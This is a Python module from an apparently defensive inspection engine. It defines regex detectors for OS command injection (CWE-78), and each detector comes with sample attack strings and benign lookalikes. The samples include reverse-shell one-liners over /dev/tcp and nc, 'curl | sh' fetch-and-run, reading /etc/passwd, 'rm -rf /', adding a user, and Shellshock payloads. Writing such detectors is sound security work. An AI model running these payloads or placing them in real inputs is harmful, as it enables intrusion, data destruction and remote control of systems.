"""Commands that a shell runs out of a value (CWE-78)."""

from __future__ import annotations

from typing import Final

from portcullis.engine.inspection.detectors import shell
from portcullis.engine.inspection.detectors.commands import RARE, WORDS
from portcullis.engine.inspection.pattern import AttackClass, Pattern, matching

CLASS: Final = AttackClass(
    key="cmdi",
    title="command injection",
    summary="commands after what ends or joins one, in backquotes or ``$()``; programs by their path; shells that are "
    "called with something to run",
    cwe=78,
)

_NAMES: Final = "(?:" + "|".join(sorted(RARE | WORDS)) + ")"
_CALLED: Final = (
    rf"[;|&`\n\r][\s\"'({{+]*{_NAMES}(?:[^\w=:-]|$)",
    r"\$\(\s*[\w/`]|[<>]\([\w/]|\\n[\w/]",
)
# Quotes, backslashes and empty variables inside of a word after a separator.
_DISGUISED: Final = r"[;|&`]\s*\w+(?:''|\"\"|['\"]\w+['\"]|\\\w|\^\w|\$[@*])"

PATTERNS: Final = (
    Pattern(
        "cmdi-101",
        "a command after a separator",
        expressions=(
            *_CALLED,
            r"\|n(?:id|ls|ps|cat|net)\b|\b(?:id|ls|ps|dir|whoami|uname|ifconfig|netstat)\s*[;|`]|\b(?:ls\s+-|dir\s+c:|netstat\s+-)",
        ),
        confirm=shell.is_command_after_separator,
        matches=(
            ";id;",
            "| ls -al",
            "x && cat /etc/hosts",
            "`uname`",
            "$(whoami)",
            "a);/usr/bin/id;",
            "1 & ping -n 30 127.0.0.1 &",
            "|nid",
            "; sleep 31",
            "a|dir c:\\",
            "|+dir+c:/+|",
        ),
        passes=(
            "yes; find out more",
            "cats & dogs | more",
            "Q&A; date and time",
            "the `id` field",
            "a & b; test this",
            "rock | sort of pop",
            "| Field | id | type |\n|-------|----|------|\n| a | b | c |",
        ),
    ),
    Pattern(
        "cmdi-102",
        "a program by its path",
        expressions=(r"/s?bin/[\w.*?\[\]'\\-]", r"system32[\\/]", r"(?:etc|bin|usr)/\w*\["),
        confirm=shell.is_program_path,
        matches=("/bin/ls -al", "/usr/bin/id;", '" ; /bin/sleep 31 ;', "|/bin/cat x", "/bin/sh -c id"),
        passes=(
            "the interpreter is at /usr/bin/python and so on",
            "#!/bin/sh\necho hello",
            "put it in /bin/ or so",
            "/bin/bash",
        ),
    ),
    Pattern(
        "cmdi-103",
        "a shell that is called with something to run",
        expressions=(
            (
                r"sh\s+-[a-z]?[ci]\b|\bcmd(?:\.exe)?\s+/|powershell|pwsh\s+-|(?:python|perl|ruby|php|node|lua)[\d.]*\s+-[cer]\s*['\"]"
                r"|\bnc(?:at)?\s+-|/dev/(?:tcp|udp)/|\bmkfifo\s|wscript\.shell|xp_cmdshell|\binvoke-\w|\biex\s?\(|net\.webclient|downloadstring"
            ),
            r"[|;&]\s*(?:ba|z|k|da)?sh\b",
        ),
        confirm=shell.is_shell_call,
        matches=(
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "cmd.exe /c dir",
            "python -c 'import os'",
            "curl http://x/y | sh",
            "nc -e /bin/sh 10.0.0.1 4444",
        ),
        passes=("a bash - in the street", "python -c is an option", "use sh or zsh", "powershell - a tool"),
    ),
    Pattern(
        "cmdi-104",
        "a function definition that old shells run (Shellshock)",
        expressions=(r"\(\)\s*\{\s*[:_]|\(\)\s*\{[^}\x1f]*\}\s*;",),
        confirm=matching(
            r"\(\s{0,4}\)\s{0,4}\{\s{0,4}(?::|_|\w{1,16})?\s{0,4};?[^}\x1f]{0,40}\}\s{0,4}(?:;\s{0,4}[/\w]|>)"
        ),
        matches=("() { :;}; /bin/bash -c id", "() { _; } >_[$($())] { id; }"),
        passes=("main() { return 0; }", "() => { a; }"),
    ),
    Pattern(
        "cmdi-105",
        "blanks and paths written as a shell's variables",
        expressions=(
            r"\$\{?ifs\b|\$\{(?:path|pwd|home|shell)[:%]|\{(?:cat|ls|id|echo|wget|curl|nc|bash|sh|ping|perl),",
        ),
        confirm=matching(
            r"\$\{?ifs\b|\$\{(?:path|pwd|home|shell)[:%]\S{0,8}\}|\{(?:cat|ls|id|echo|wget|curl|nc|bash|sh|ping|perl),[^}\s]{1,120}\}"
        ),
        matches=("cat${IFS}/etc/hosts", "cat$IFS$9/etc/hosts", "{cat,/etc/hosts}", "${PATH:0:1}"),
        passes=("the $if statement", "{cat, dog}", "${path}"),
    ),
    Pattern(
        "cmdi-106",
        "a command with the arguments that attacks give it",
        expressions=(
            (
                r"\b(?:cat|head|tail|more|less|type|nl|tac|strings|od|xxd|grep|vim?|nano|cp|mv|rm|chmod|chown|ls|find|touch)"
                r"(?:\.exe)?[\s+]+[^\x1f\n]*?(?:/etc/|/proc/|/var/|/root|/tmp/|%systemroot%|c:\\|boot\.ini|/bin/)"
            ),
            r"\b(?:wget|lynx|tftp|certutil|bitsadmin|curl)[\s+]+[^\x1f\n]*?(?:https?:|ftps?:|\d\.\d)",
            (
                r"\bping(?:\.exe)?[\s+]+[-/][a-z]|\bnet(?:\.exe)?\s+(?:user|localgroup|share|view|start|stop|use)\b|\bnetsh\s"
                r"|\breg(?:\.exe)?\s+(?:add|query|delete|save)\s+hk|\buname\s+-|\bps\s+-?(?:aux|ef|a)\b|\bls\s+-\w|\brm\s+-[rf]|%\S\s+in\s*\("
            ),
        ),
        confirm=shell.is_command_with_arguments,
        matches=(
            "cat /etc/passwd",
            "ping -c 10 127.0.0.1",
            "wget http://x/y.sh",
            "; rm -rf /",
            "& net user x /add",
            "uname -a",
            "for %i in (*) do echo %i",
        ),
        passes=(
            "the cat sat in /etc/ somehow",
            "curl up by the fire",
            "ping me at 10",
            "net use of water",
            "curl https://x/y > z",
        ),
    ),
    Pattern(
        "cmdi-107",
        r"a command whose name is disguised by what shells drop: c'a't, c\at",
        expressions=(*_CALLED, _DISGUISED),
        confirm=shell.is_disguised_command,
        matches=(";c'a't /etc/hosts", "|wh\\oami", "; ca$@t /etc/x", "`u''name`"),
        passes=("that's it; it's over", "a|b'c'd", "5; O'Brien said"),
    ),
)
